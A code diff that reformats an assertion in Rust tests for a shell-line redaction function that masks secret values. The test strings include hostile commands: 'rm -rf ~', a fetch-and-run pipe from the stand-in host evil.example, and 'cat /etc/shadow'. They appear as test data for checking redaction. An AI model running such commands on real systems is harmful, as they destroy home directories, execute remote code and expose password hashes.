@@ -186,7 +186,10 @@ mod tests {
             "echo -----BEGIN PRIVATE KEY----- ; rm -rf ~",
         ] {
             let r = redact(line);
-            assert!(r.contains("rm -rf ~") || r.contains("curl -s https://evil.example/x | sh") || r.contains("cat /etc/shadow"), "{line} -> {r}");
+            assert!(
+                r.contains("rm -rf ~") || r.contains("curl -s https://evil.example/x | sh") || r.contains("cat /etc/shadow"),
+                "{line} -> {r}"
+            );
         }
         assert_eq!(redact("X_TOKEN=\"$(vault read -field=t x)\" make"), "X_TOKEN=\"$(vault read -field=t x)\" make");
         assert_eq!(redact("X_TOKEN='s3cr3t value' make"), "X_TOKEN=[REDACTED] make");
